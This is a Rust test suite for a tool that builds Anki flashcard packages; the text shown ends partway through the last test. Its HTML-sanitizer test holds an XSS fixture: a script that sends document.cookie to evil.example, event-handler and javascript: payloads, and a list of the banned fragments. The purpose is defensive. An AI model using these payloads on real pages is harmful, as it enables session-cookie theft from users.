//! Anki packages, proven with the real Anki backend: the official `anki` package from PyPI,
//! installed by `scripts/setup-test-deps` into `target/anki-venv`, driven through
//! `tests/anki/anki_helper.py`. These tests fail (never skip) when it is missing.

use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;

use crate::support::{Project, repo_root, seed_lesson, stderr_of};

/// The seed lesson's item ids, in source order.
const SEED_IDS: [&str; 5] = [
    "batch-high-water-mark",
    "exactly-once",
    "why-parquet",
    "api-extraction",
    "lambda-vs-kappa",
];
const SEED_DECK: &str = "Data Engineering::Pipeline Interviews";
/// Their questions (plain text in the source, so the Question field is the same text).
const SEED_QUESTIONS: [&str; 5] = [
    "How does your batch pipeline load only what changed since the last run?",
    "What do production streaming systems run instead of true exactly-once?",
    "Why Parquet?",
    "How do you extract data reliably from a paginated third-party API?",
    "Lambda or Kappa: what does each architecture cost?",
];

/// The venv's Python: `CARDSMITH_ANKI_PYTHON` (set by `scripts/test`), else the path
/// `scripts/setup-test-deps` installs to.
fn anki_python() -> PathBuf {
    let python = std::env::var_os("CARDSMITH_ANKI_PYTHON")
        .map(PathBuf::from)
        .unwrap_or_else(|| repo_root().join("target/anki-venv/bin/python"));
    assert!(
        python.exists(),
        "the Anki backend is missing at {}: run scripts/setup-test-deps (scripts/test does)",
        python.display()
    );
    python
}

/// A fresh Anki collection in a temp folder.
struct Anki {
    dir: tempfile::TempDir,
}

impl Anki {
    fn new() -> Anki {
        Anki {
            dir: tempfile::tempdir().expect("temp dir"),
        }
    }

    fn run(&self, args: &[&str]) -> Value {
        let collection = self.dir.path().join("collection.anki2");
        let output = Command::new(anki_python())
            .arg(repo_root().join("tests/anki/anki_helper.py"))
            .arg(args[0])
            .arg(&collection)
            .args(&args[1..])
            .output()
            .expect("python runs");
        assert!(
            output.status.success(),
            "anki_helper {args:?} failed:\n{}",
            String::from_utf8_lossy(&output.stderr)
        );
        serde_json::from_slice(&output.stdout).expect("anki_helper prints JSON")
    }

    /// Imports with Anki's default options; returns the importer's log counts.
    fn import(&self, project: &Project, package: &str) -> Value {
        let path = project.root().join("out").join(package);
        self.run(&["import", path.to_str().expect("utf-8 path")])
    }

    fn dump(&self) -> Value {
        self.run(&["dump"])
    }

    fn review_all(&self) -> Value {
        self.run(&["review"])
    }
}

/// The importer's counts as `(new, updated, duplicate, conflicting)`.
fn counts(log: &Value) -> (u64, u64, u64, u64) {
    let count = |key: &str| {
        log[key]
            .as_u64()
            .unwrap_or_else(|| panic!("{key} in {log}"))
    };
    (
        count("new"),
        count("updated"),
        count("duplicate"),
        count("conflicting"),
    )
}

fn notes(dump: &Value) -> &Vec<Value> {
    dump["notes"].as_array().expect("notes")
}

fn note<'d>(dump: &'d Value, item_id: &str) -> &'d Value {
    notes(dump)
        .iter()
        .find(|note| note["fields"]["Id"] == item_id)
        .unwrap_or_else(|| panic!("no note for {item_id}"))
}

/// Per card: `(note id, ord, interval, reps, revlog entries)`.
fn scheduling(dump: &Value) -> Vec<(i64, i64, i64, i64, i64)> {
    let mut rows = Vec::new();
    for note in notes(dump) {
        for card in note["cards"].as_array().expect("cards") {
            let get = |value: &Value| value.as_i64().expect("number");
            rows.push((
                get(&note["id"]),
                get(&card["ord"]),
                get(&card["ivl"]),
                get(&card["reps"]),
                get(&card["revlog"]),
            ));
        }
    }
    rows
}

/// The text of an HTML fragment, without tags (and without the `<style>` block).
fn visible_text(html: &str) -> String {
    let body = html.rsplit("</style>").next().unwrap_or(html);
    let mut text = String::new();
    let mut in_tag = false;
    for c in body.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            _ if !in_tag => text.push(c),
            _ => {}
        }
    }
    text
}

fn build(project: &Project) -> std::process::Output {
    let output = project.cardsmith(&["build"]).output().expect("runs");
    assert!(
        output.status.success(),
        "build failed:\n{}",
        stderr_of(&output, project)
    );
    output
}

#[test]
fn seed_deck_imports_with_fields_tags_and_decks() {
    let project = Project::with_seed();
    build(&project);
    let anki = Anki::new();
    let log = anki.import(&project, "all.apkg");
    assert_eq!(counts(&log), (5, 0, 0, 0), "{log}");
    let dump = anki.dump();
    assert_eq!(notes(&dump).len(), SEED_IDS.len());
    let decks = dump["decks"].as_array().expect("decks");
    assert!(
        decks.contains(&Value::from("Data Engineering")),
        "{decks:?}"
    );
    assert!(decks.contains(&Value::from(SEED_DECK)), "{decks:?}");

    let parquet = note(&dump, "why-parquet");
    assert_eq!(parquet["notetype"], "cardsmith");
    assert_eq!(parquet["fields"]["Question"], "Why Parquet?");
    let answer = parquet["fields"]["Answer"].as_str().expect("answer");
    assert!(
        answer.contains("<strong>columnar, compressed, predicate pushdown</strong>"),
        "{answer}"
    );
    assert!(answer.contains("<li><strong>Columnar</strong>"), "{answer}");
    assert_eq!(
        parquet["fields"]["MustSay"],
        "<ul><li>columnar</li><li>compressed</li><li>predicate pushdown</li>\
         <li>reads only the needed columns</li></ul>"
    );
    assert_eq!(
        parquet["fields"]["RedFlags"],
        "<ul><li>calls Parquet row-oriented</li></ul>"
    );
    assert_eq!(parquet["fields"]["Topic"], "File Format Depth");
    assert_eq!(parquet["fields"]["Reverse"], "");
    assert_eq!(
        parquet["tags"],
        serde_json::json!([
            "data-pipelines",
            "file-formats",
            "interview",
            "parquet",
            "topic::file-format-depth"
        ])
    );

    for ((note, id), question) in notes(&dump).iter().zip(SEED_IDS).zip(SEED_QUESTIONS) {
        assert_eq!(note["fields"]["Id"], id, "notes keep source order");
        assert_eq!(note["fields"]["Question"], question);
        assert_eq!(
            note["fields"]["Lesson"],
            "Survive the follow-up probes on batch, streaming, and hybrid pipelines"
        );
        let tags = note["tags"].as_array().expect("tags");
        for tag in ["data-pipelines", "interview"] {
            assert!(
                tags.contains(&Value::from(tag)),
                "{id}: lesson tag {tag}: {tags:?}"
            );
        }
        let topic = tags
            .iter()
            .filter_map(Value::as_str)
            .filter(|tag| tag.starts_with("topic::"))
            .count();
        assert_eq!(topic, 1, "{id}: one topic tag: {tags:?}");
        assert!(
            tags.iter()
                .filter_map(Value::as_str)
                .all(|tag| !tag.contains(' ')),
            "{tags:?}"
        );
        let cards = note["cards"].as_array().expect("cards");
        assert_eq!(cards.len(), 1, "{id}: a basic item makes one card");
        for card in cards {
            assert_eq!(card["deck"], SEED_DECK);
            for side in ["question", "answer"] {
                let html = card[side].as_str().expect("rendered side");
                assert!(html.contains("cs-question"), "{id} {side}: {html}");
                assert!(
                    !html.contains("{{"),
                    "{id} {side}: unreplaced field: {html}"
                );
            }
        }
    }

    // The per-lesson package holds the same notes: importing it on top changes nothing.
    let again = anki.import(&project, "pipeline-probes.apkg");
    assert_eq!(counts(&again), (0, 0, 5, 0), "{again}");
}

#[test]
fn reimport_updates_in_place_keeps_reviews_and_never_deletes() {
    let project = Project::with_seed();
    build(&project);
    let anki = Anki::new();
    assert_eq!(counts(&anki.import(&project, "all.apkg")), (5, 0, 0, 0));
    assert_eq!(anki.review_all()["answered"], 5);
    let reviewed = anki.dump();
    let schedule = scheduling(&reviewed);
    assert!(
        schedule
            .iter()
            .all(|&(_, _, ivl, reps, revlog)| ivl > 0 && reps == 1 && revlog == 1),
        "{schedule:?}"
    );

    // Edit one answer and one question, rebuild at once (same second as the first build).
    let edited = seed_lesson()
        .replace(
            "A screening question in more than half of pipeline interviews.",
            "A screening question in nearly every pipeline interview.",
        )
        .replace(
            "### What do production streaming systems run instead of true exactly-once?",
            "### What do production pipelines run instead of true exactly-once?",
        );
    project.write("source/data-pipelines/probes.md", &edited);
    build(&project);
    let log = anki.import(&project, "all.apkg");
    assert_eq!(
        counts(&log),
        (0, 2, 3, 0),
        "new, updated, duplicate, conflicting: {log}"
    );
    let updated = anki.dump();
    assert_eq!(
        scheduling(&updated),
        schedule,
        "same notes, cards, intervals, revlog"
    );
    let answer = note(&updated, "why-parquet")["fields"]["Answer"]
        .as_str()
        .expect("answer");
    assert!(
        answer.contains("nearly every pipeline interview"),
        "{answer}"
    );
    assert_eq!(
        note(&updated, "exactly-once")["fields"]["Question"],
        "What do production pipelines run instead of true exactly-once?"
    );

    // No edit: same bytes, same lock, and the import changes nothing.
    let before = project.out_files();
    let lock = std::fs::read(project.root().join("cardsmith.lock")).expect("lock");
    build(&project);
    assert_eq!(project.out_files(), before);
    assert_eq!(
        std::fs::read(project.root().join("cardsmith.lock")).expect("lock"),
        lock
    );
    let log = anki.import(&project, "all.apkg");
    assert_eq!(counts(&log), (0, 0, 5, 0), "{log}");
    assert_eq!(anki.dump(), updated);

    // Add an item and delete one: exactly one new note; the deleted one stays as it was.
    let start = edited.find("## API Patterns").expect("topic");
    let end = edited.find("## Hybrid Architectures").expect("next topic");
    let mut changed = String::new();
    changed.push_str(&edited[..start]);
    changed.push_str(&edited[end..]);
    changed.push_str(
        "\n### What is a dead-letter queue for? {#dead-letter-queue}\n\n\
         It holds messages that failed processing, so one bad record never blocks the stream.\n",
    );
    project.write("source/data-pipelines/probes.md", &changed);
    let output = build(&project);
    let stderr = stderr_of(&output, &project);
    assert!(
        stderr
            .contains("1 item left the source since `cardsmith.lock` was written: api-extraction"),
        "{stderr}"
    );
    assert!(stderr.contains("\"Id:api-extraction\""), "{stderr}");
    let log = anki.import(&project, "all.apkg");
    assert_eq!(counts(&log), (1, 0, 4, 0), "{log}");
    let after = anki.dump();
    assert_eq!(notes(&after).len(), 6);
    assert_eq!(
        note(&after, "api-extraction"),
        note(&updated, "api-extraction")
    );
    assert_eq!(
        note(&after, "dead-letter-queue")["cards"][0]["deck"],
        SEED_DECK
    );
}

#[test]
fn same_input_and_lock_give_identical_bytes_on_another_checkout() {
    let first = Project::with_seed();
    build(&first);
    let second = Project::with_seed();
    let lock = std::fs::read(first.root().join("cardsmith.lock")).expect("lock");
    second.write_bytes("cardsmith.lock", &lock);
    build(&second);
    assert_eq!(first.out_files(), second.out_files());
    let names: Vec<String> = first
        .out_files()
        .iter()
        .map(|(path, _)| path.display().to_string())
        .collect();
    assert!(names.contains(&"all.apkg".to_owned()), "{names:?}");
    assert!(
        names.contains(&"pipeline-probes.apkg".to_owned()),
        "{names:?}"
    );
}

const KINDS_LESSON: &str = r#"---
id: kinds
title: Card kinds
deck: Test::Kinds
tags: [kinds]
---

## Shapes

### What does a high-water mark record? {#hwm}

The largest timestamp a run processed.

![the mark](img/mark.png)

```card
kind: reverse
```

### What makes Parquet fast? {#parquet-cloze}

It is {{c1::columnar}} and {{c2::compressed::how?}}, and it skips row groups by their
{{c1::statistics}}.

```python
def read(path):
    return pq.read_table(path, columns=["a"])  # 1 < 2
```

```card
kind: cloze
```

### Plain? {#plain}

Yes.
"#;

/// A 1x1 PNG.
const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4,
    0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00,
    0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae,
    0x42, 0x60, 0x82,
];

/// A build keeps each lesson's notes in a file of its stage until the lock stage has given them
/// their ids, and reads them back for each package (docs/performance.md, "Memory"); a render
/// outside a build (`serve`) holds them in memory. Both make the same packages, byte for byte.
#[test]
fn packages_from_notes_kept_in_the_stage_are_the_ones_made_in_memory() {
    use std::collections::BTreeMap;

    let project = Project::with_seed();
    project.write("source/kinds.md", KINDS_LESSON);
    project.write_bytes("source/img/mark.png", PNG);
    project.write(
        "source/more.md",
        "---\nid: more\ntitle: More\ndeck: Other::Deck\n---\n\n## T\n\n### Why? {#why}\n\nBecause `code`.\n",
    );
    project.run(&["build", "-q"], 0);

    let config = cardsmith::config::Config::load(project.root()).expect("the config");
    let templates =
        cardsmith::templates::Templates::for_project(&config.root, &config.templates_dir())
            .expect("the templates");
    let mut checked = cardsmith::check(&config).expect("checks");
    let lock = std::fs::read_to_string(project.root().join("cardsmith.lock")).expect("a lock");
    let states = BTreeMap::from([("cardsmith.lock", lock)]);
    let outputs = cardsmith::render(&mut checked, &config, &templates, &states, 0)
        .expect("renders")
        .expect("no errors");
    let packages: Vec<_> = outputs
        .artifacts
        .iter()
        .filter(|artifact| artifact.path.extension().is_some_and(|ext| ext == "apkg"))
        .collect();
    assert_eq!(packages.len(), 4, "three lessons and all.apkg");
    for package in packages {
        let built = std::fs::read(project.root().join("out").join(&package.path)).expect("built");
        assert!(built == package.bytes, "{} differs", package.path.display());
    }
}

#[test]
fn reverse_and_cloze_items_make_the_right_cards_with_media_and_code() {
    let project = Project::new();
    project.write("source/kinds.md", KINDS_LESSON);
    project.write_bytes("source/img/mark.png", PNG);
    build(&project);
    let anki = Anki::new();
    let log = anki.import(&project, "kinds.apkg");
    assert_eq!(counts(&log), (3, 0, 0, 0), "{log}");
    let dump = anki.dump();
    let card_count = |id: &str| note(&dump, id)["cards"].as_array().expect("cards").len();
    assert_eq!(card_count("hwm"), 2, "reverse: forward and reverse cards");
    assert_eq!(card_count("parquet-cloze"), 2, "cloze: c1 and c2");
    assert_eq!(card_count("plain"), 1);
    assert_eq!(note(&dump, "parquet-cloze")["notetype"], "cardsmith cloze");

    let reverse_front = note(&dump, "hwm")["cards"][1]["question"]
        .as_str()
        .expect("reverse front");
    assert!(
        reverse_front.contains("The largest timestamp"),
        "{reverse_front}"
    );
    let image = note(&dump, "hwm")["fields"]["Answer"]
        .as_str()
        .expect("answer");
    let media = dump["media"].as_array().expect("media");
    assert_eq!(media.len(), 1, "{media:?}");
    let name = media[0].as_str().expect("name");
    assert!(
        name.starts_with("mark-") && name.ends_with(".png"),
        "{name}"
    );
    assert!(image.contains(&format!("src=\"{name}\"")), "{image}");

    let cloze = &note(&dump, "parquet-cloze")["cards"];
    let first_front = cloze[0]["question"].as_str().expect("c1 front");
    assert!(first_front.contains("[...]"), "{first_front}");
    // Anki keeps the hidden text in a `data-cloze` attribute; the visible text must not show it.
    assert!(
        !visible_text(first_front).contains("columnar"),
        "{first_front}"
    );
    assert!(
        first_front.contains("compressed"),
        "c2 stays visible on c1: {first_front}"
    );
    let second_front = cloze[1]["question"].as_str().expect("c2 front");
    assert!(
        second_front.contains("how?"),
        "the hint shows: {second_front}"
    );
    let answer = cloze[0]["answer"].as_str().expect("c1 back");
    assert!(answer.contains("columnar"), "{answer}");
    assert!(
        answer.contains("hl-keyword"),
        "code is highlighted at build time: {answer}"
    );
    assert!(!answer.contains("<script"), "{answer}");
}

#[test]
fn template_changes_update_the_note_type_in_place() {
    let project = Project::with_seed();
    build(&project);
    let anki = Anki::new();
    anki.import(&project, "all.apkg");
    project.write(
        "templates/anki/style.css",
        ".card { color: rebeccapurple; }\n",
    );
    build(&project);
    let log = anki.import(&project, "all.apkg");
    assert_eq!(counts(&log), (0, 0, 5, 0), "notes did not change: {log}");
    let dump = anki.dump();
    let cardsmith_types: Vec<&Value> = dump["notetypes"]
        .as_array()
        .expect("notetypes")
        .iter()
        .filter(|name| {
            name.as_str()
                .is_some_and(|name| name.starts_with("cardsmith"))
        })
        .collect();
    assert_eq!(
        cardsmith_types,
        vec!["cardsmith"],
        "no second `cardsmith+` type"
    );
    let question = notes(&dump)[0]["cards"][0]["question"]
        .as_str()
        .expect("question");
    assert!(question.contains("rebeccapurple"), "{question}");
}

#[test]
fn a_cloze_item_without_deletion_is_an_error() {
    let project = Project::new();
    project.write(
        "source/lesson.md",
        "---\nid: l\ntitle: L\ndeck: D\n---\n\n### Q? {#q}\n\nNo deletion here.\n\n```card\nkind: cloze\n```\n",
    );
    let output = project.cardsmith(&["build"]).output().expect("runs");
    assert_eq!(output.status.code(), Some(1));
    let stderr = stderr_of(&output, &project);
    assert!(stderr.contains("S016"), "{stderr}");
    assert!(project.out_files().is_empty(), "nothing written");
    let output = project.cardsmith(&["check"]).output().expect("runs");
    assert_eq!(output.status.code(), Some(1), "`check` reports it too");
    assert!(stderr_of(&output, &project).contains("S016"));
}

/// Regression: `check` looked for a deletion in the Markdown and `build` in the highlighted HTML,
/// so a cloze whose only deletion sits in a fenced code block passed `check` and failed `build`.
#[test]
fn check_and_build_agree_on_a_deletion_inside_a_code_block() {
    let project = Project::new();
    project.write(
        "source/lesson.md",
        "---\nid: l\ntitle: L\ndeck: D\n---\n\n### Which flag? {#q}\n\n```sh\ngrep {{c1::-r}} x\n```\n\n\
         ```card\nkind: cloze\n```\n\n### Inline? {#inline}\n\nUse `{{c1::-r}}`.\n\n```card\nkind: cloze\n```\n",
    );
    let check = project.run(&["check"], 1);
    let build = project.run(&["build"], 1);
    for (command, stderr) in [("check", &check), ("build", &build)] {
        assert_eq!(stderr.matches("S016").count(), 1, "{command}: {stderr}");
        assert!(stderr.contains("lesson.md:7:1"), "{command}: {stderr}");
    }
    assert!(project.out_files().is_empty(), "nothing written");
}

#[test]
fn locked_build_refuses_a_stale_lock_and_writes_nothing() {
    let project = Project::with_seed();
    project
        .cardsmith(&["build", "--locked"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("`cardsmith.lock` is out of date"));
    assert!(project.out_files().is_empty());
    build(&project);
    project.cardsmith(&["build", "--locked"]).assert().success();
    let before = project.out_files();
    project.write(
        "source/data-pipelines/probes.md",
        &seed_lesson().replace("Why Parquet?", "Why Parquet, really?"),
    );
    project
        .cardsmith(&["build", "--locked"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("changed items: why-parquet"));
    assert_eq!(project.out_files(), before, "nothing written");
}

// A lock written before it recorded decks and cards (issue 10) is no stale lock, and
// `build --locked` leaves it as it is; a plain build fills them in.
#[test]
fn locked_build_accepts_and_keeps_a_lock_without_decks_and_cards() {
    let project = Project::with_seed();
    build(&project);
    let lock = project.root().join("cardsmith.lock");
    let full = std::fs::read_to_string(&lock).expect("lock");
    let older: String = full
        .lines()
        .filter(|line| !line.starts_with("deck = ") && !line.starts_with("cards = "))
        .map(|line| format!("{line}\n"))
        .collect();
    assert_ne!(older, full);
    std::fs::write(&lock, &older).expect("write lock");
    project.cardsmith(&["build", "--locked"]).assert().success();
    assert_eq!(std::fs::read_to_string(&lock).expect("lock"), older);
    build(&project);
    assert_eq!(std::fs::read_to_string(&lock).expect("lock"), full);
}

#[test]
fn the_all_package_name_is_configurable_and_checked() {
    let project = Project::with_seed();
    project.write("cardsmith.toml", "[apkg]\nall = \"course.apkg\"\n");
    build(&project);
    let names: Vec<String> = project
        .out_files()
        .iter()
        .map(|(path, _)| path.display().to_string())
        .collect();
    assert!(names.contains(&"course.apkg".to_owned()), "{names:?}");
    assert!(!names.contains(&"all.apkg".to_owned()), "{names:?}");

    project.write("cardsmith.toml", "[apkg]\nall = \"../escape.apkg\"\n");
    project
        .cardsmith(&["build"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "`apkg.all` (\"../escape.apkg\") must be a file name inside the output folder",
        ));
}

#[test]
fn switching_kinds_adds_the_reverse_card_and_refuses_a_new_note_type() {
    let project = Project::new();
    let lesson = |why_kind: &str, fast_kind: &str| {
        format!(
            "---\nid: k\ntitle: K\ndeck: K\n---\n\n\
             ### Why? {{#why}}\n\nBecause {{{{c1::reasons}}}}.\n\n```card\nkind: {why_kind}\n```\n\n\
             ### Fast? {{#fast}}\n\nYes.\n\n```card\nkind: {fast_kind}\n```\n"
        )
    };
    project.write("source/k.md", &lesson("basic", "basic"));
    build(&project);
    let anki = Anki::new();
    assert_eq!(counts(&anki.import(&project, "k.apkg")), (2, 0, 0, 0));
    anki.review_all();
    let before = anki.dump();

    // basic -> reverse adds the second card beside the reviewed one; basic -> cloze is refused.
    project.write("source/k.md", &lesson("cloze", "reverse"));
    let stderr = stderr_of(&build(&project), &project);
    assert!(
        stderr.contains("warning: item `why` switched between `kind: cloze` and another kind"),
        "{stderr}"
    );
    let log = anki.import(&project, "k.apkg");
    assert_eq!(
        counts(&log),
        (0, 1, 0, 1),
        "new, updated, duplicate, conflicting: {log}"
    );
    let after = anki.dump();
    let fast = note(&after, "fast")["cards"].as_array().expect("cards");
    assert_eq!(fast.len(), 2);
    assert_eq!(
        fast[0],
        note(&before, "fast")["cards"][0],
        "the reviewed card is kept"
    );
    assert_eq!(
        note(&after, "why"),
        note(&before, "why"),
        "the cloze switch changed nothing"
    );
}

/// Issue 11, finding 6: raw HTML that would run on the learner's device is removed from the card
/// (in real Anki, `card.answer()` held `<script>`, `onerror=`, `javascript:`, `<iframe>`, a
/// `<style>` that hid the card, and `<b onmouseover>` in the question), with a warning at each.
#[test]
fn r11_cards_hold_no_script_handler_frame_or_style() {
    let project = Project::new();
    project.write(
        "source/html.md",
        r#"---
id: html
title: HTML
deck: Test::HTML
---

### What is a <b onmouseover="steal()">high-water mark</b>? {#hwm}

The largest timestamp loaded. <script>fetch("https://evil.example/" + document.cookie)</script>

<img src="x.png" onerror="alert(1)"> <iframe src="https://evil.example"></iframe>

<style>.card { display: none }</style>

[details](javascript:alert(1)) and <a href="jAvA&#x09;script:alert(2)">more</a>,
<b>bold</b>, a [link](https://example.com) and `code` stay.
"#,
    );
    let output = build(&project);
    let stderr = stderr_of(&output, &project);
    for place in [
        "html.md:7:15",
        "html.md:9:31",
        "html.md:11:1",
        "html.md:11:38",
        "html.md:13:1",
        "html.md:15:1",
        "html.md:15:36",
    ] {
        assert!(stderr.contains(place), "no warning at {place}: {stderr}");
    }
    assert!(stderr.contains("warning[S021]"), "{stderr}");
    let anki = Anki::new();
    anki.import(&project, "html.apkg");
    let dump = anki.dump();
    let fields = &note(&dump, "hwm")["fields"];
    let question = fields["Question"].as_str().expect("question");
    let answer = fields["Answer"].as_str().expect("answer");
    for field in [question, answer] {
        for gone in [
            "<script",
            "onmouseover",
            "onerror",
            "<iframe",
            "<style",
            "display: none",
            "javascript",
            "document.cookie",
        ] {
            assert!(
                !field
                    .to_ascii_lowercase()
                    .contains(&gone.to_ascii_lowercase()),
                "`{gone}` reached Anki: {field}"
            );
        }
    }
    assert!(question.contains("<b>high-water mark</b>"), "{question}");
    for kept in [
        "<b>bold</b>",
        "href=\"https://example.com\"",
        "<code>code</code>",
    ] {
        assert!(answer.contains(kept), "`{kept}` was lost: {answer}");
    }
}

/// The documented opt-out: `sanitize-html = false` keeps raw HTML, and warns about none of it.
#[test]
fn r11_raw_html_is_kept_when_the_author_opts_out() {
    let project = Project::new();
    project.write("cardsmith.toml", "[apkg]\nsanitize-html = false\n");
    project.write(
        "source/html.md",
        "---\nid: html\ntitle: HTML\ndeck: Test\n---\n\n### Q? {#q}\n\nA <span onclick=\"go()\">widget</span>.\n",
    );
    let stderr = stderr_of(&build(&project), &project);
    assert!(!stderr.contains("S021"), "{stderr}");
    let anki = Anki::new();
    anki.import(&project, "html.apkg");
    let answer = note(&anki.dump(), "q")["fields"]["Answer"]
        .as_str()
        .expect("answer")
        .to_owned();
    assert!(answer.contains("onclick=\"go()\""), "{answer}");
}

/// Issue 11, finding 2: one `\x1f` (Anki's field separator) made Anki refuse the whole package;
/// now every control character is an error at its place, raw or escaped, and nothing is built.
#[test]
fn r11_control_characters_are_errors_at_their_place_and_build_nothing() {
    let project = Project::new();
    project.write(
        "source/good.md",
        "---\nid: good\ntitle: Good\ndeck: Test\n---\n\n### Q? {#q}\n\nA.\n",
    );
    project.write(
        "source/bad.md",
        "---\nid: bad\ntitle: \"Bad\\x1f\"\ndeck: Test\ntags: [\"a\\u0000b\"]\n---\n\n## Topic\u{1f}\n\n### Question\u{1f}? {#bad-q}\n\nAnswer\u{0} with &#x1F;.\n\n```card\nmust:\n  - \"point\\x1f\"\navoid:\n  - flag: \"flag\\x1e\"\n    match: x\n```\n",
    );
    let stderr = project.run(&["build"], 1);
    for place in [
        "bad.md:3:12",
        "bad.md:5:10",
        "bad.md:8:9",
        "bad.md:10:13",
        "bad.md:12:7",
        "bad.md:12:14",
        "bad.md:16:11",
        "bad.md:18:16",
    ] {
        assert!(stderr.contains(place), "nothing at {place}: {stderr}");
    }
    assert!(stderr.contains("error[S019]"), "{stderr}");
    assert!(project.out_files().is_empty(), "nothing built");
}

/// Anki renamed `Default` to `Default_` and `math` (beside `Math`) to `math_`, silently; both are
/// errors naming Anki's rule. Deck names it keeps import as written.
#[test]
fn r11_deck_names_anki_would_rename_are_errors() {
    let lesson = |id: &str, deck: &str| {
        format!("---\nid: {id}\ntitle: T\ndeck: \"{deck}\"\n---\n\n### Q {id}? {{#q-{id}}}\n\nA.\n")
    };
    let project = Project::new();
    project.write("source/a.md", &lesson("a", "Default"));
    project.write("source/b.md", &lesson("b", "Math::Algebra"));
    project.write("source/c.md", &lesson("c", "math::Geometry"));
    project.write("source/d.md", &lesson("d", "Spaced ::Sub"));
    project.write("source/e.md", &lesson("e", "Parent::::Child"));
    let stderr = project.run(&["build"], 1);
    assert!(
        stderr.contains("a.md:4:7") && stderr.contains("is the name of Anki's built-in deck"),
        "{stderr}"
    );
    assert!(
        stderr.contains("c.md:4:7")
            && stderr.contains("deck `math` differs from deck `Math` only in case"),
        "{stderr}"
    );
    assert!(
        stderr.contains("d.md:4:7") && stderr.contains("whitespace around its level"),
        "{stderr}"
    );
    assert!(
        stderr.contains("e.md:4:7") && stderr.contains("has an empty level"),
        "{stderr}"
    );

    let project = Project::new();
    project.write("source/a.md", &lesson("a", "Default::Child"));
    project.write("source/b.md", &lesson("b", "Math::Algebra"));
    project.write("source/c.md", &lesson("c", "Math::Geometry"));
    build(&project);
    let anki = Anki::new();
    anki.import(&project, "all.apkg");
    let decks = anki.dump()["decks"].clone();
    assert_eq!(
        decks,
        serde_json::json!([
            "Default",
            "Default::Child",
            "Math",
            "Math::Algebra",
            "Math::Geometry"
        ]),
        "Anki keeps every name as written"
    );
}

/// Issue 11, finding 8: an image in a `###` question was neither checked nor packed.
#[test]
fn r11_an_image_in_a_question_is_checked_and_packed() {
    let project = Project::new();
    project.write(
        "source/q.md",
        "---\nid: q\ntitle: Q\ndeck: Test\n---\n\n### What is ![the shape](img/shape.png)? {#shape}\n\nA square.\n",
    );
    let stderr = project.run(&["check"], 1);
    assert!(
        stderr.contains("q.md:7:13") && stderr.contains("image `img/shape.png` not found"),
        "{stderr}"
    );
    project.write_bytes("source/img/shape.png", PNG);
    build(&project);
    let anki = Anki::new();
    anki.import(&project, "q.apkg");
    let dump = anki.dump();
    let media = dump["media"].as_array().expect("media");
    assert_eq!(media.len(), 1, "{media:?}");
    let name = media[0].as_str().expect("name");
    // The whole SHA-256 names it: `shape-<64 hex digits>.png`.
    assert_eq!(name.len(), "shape-".len() + 64 + ".png".len(), "{name}");
    let question = note(&dump, "shape")["fields"]["Question"]
        .as_str()
        .expect("question");
    assert!(question.contains(&format!("src=\"{name}\"")), "{question}");
}

/// Issue 11, finding 8: `{{c65536::y}}` (out of Anki's range) was silently ignored.
#[test]
fn r11_cloze_numbers_out_of_ankis_range_are_errors() {
    let project = Project::new();
    project.write(
        "source/c.md",
        "---\nid: c\ntitle: C\ndeck: Test\n---\n\n### Q? {#q}\n\nIt is {{c1::x}} and {{c65536::y}} and {{c0::z}}.\n\n```card\nkind: cloze\n```\n",
    );
    let stderr = project.run(&["check"], 1);
    assert!(
        stderr.contains("c.md:9:21")
            && stderr.contains("cloze number 65536 is out of Anki's range"),
        "{stderr}"
    );
    assert!(
        stderr.contains("c.md:9:39") && stderr.contains("cloze number 0"),
        "{stderr}"
    );
}

/// A lesson with math in every delimiter, a cloze deletion holding `}}` in a formula, and a card
/// block indented under a list item (issue 10).
const MATH_LESSON: &str = r"---
id: stats
title: Statistics
deck: Stats
---

## Moments

### What is the variance of X? {#variance}

It is \(\sigma^2\), also written $\operatorname{Var}(X)$:

\[ E[X^2] - (E[X])^2 \]

$$\sum_{i=1}^{n} (x_i - \bar{x})^2 / n$$

### The mean as a cloze {#mean-cloze}

The mean of \(1/x^2\) terms is {{c1::$\frac{1}{x^{2}}$}} each.

```card
kind: cloze
```

### What does a sample need? {#sample}

- Independent draws.

  ```card
  must:
    - independent draws
  ```
- A size that is large enough.
";

/// [`MATH_LESSON`] built and imported into a new collection: the project and Anki's dump.
fn imported_math_lesson() -> (Project, Value) {
    let project = Project::new();
    project.write("source/stats.md", MATH_LESSON);
    build(&project);
    let anki = Anki::new();
    anki.import(&project, "stats.apkg");
    let dump = anki.dump();
    (project, dump)
}

#[test]
fn math_reaches_anki_as_mathjax_and_no_card_shows_a_card_block() {
    let (_project, dump) = imported_math_lesson();
    let variance = note(&dump, "variance");
    let card = &variance["cards"][0];
    let answer = card["answer"].as_str().expect("answer");
    for formula in [
        r"\(\sigma^2\)",
        r"\(\operatorname{Var}(X)\)",
        r"\[E[X^2] - (E[X])^2\]",
        r"\[\sum_{i=1}^{n} (x_i - \bar{x})^2 / n\]",
    ] {
        assert!(answer.contains(formula), "{formula} not in {answer}");
    }

    // The cloze deletion holds the whole formula: its `}}` was written `} }`, as Anki's manual
    // says, so Anki did not end the deletion inside it.
    let cloze = note(&dump, "mean-cloze");
    let cards = cloze["cards"].as_array().expect("cards");
    assert_eq!(cards.len(), 1, "{cloze}");
    let question = cards[0]["question"].as_str().expect("question");
    let answer = cards[0]["answer"].as_str().expect("answer");
    assert!(question.contains(r"\(1/x^2\)"), "{question}");
    assert!(
        !visible_text(question).contains("frac"),
        "the deletion is hidden: {question}"
    );
    assert!(visible_text(question).contains("[...]"), "{question}");
    assert!(answer.contains(r"\(\frac{1}{x^{2} }\)"), "{answer}");
    assert!(!visible_text(answer).contains("}}"), "{answer}");

    // The card block under the list item is the item's rubric, never its face.
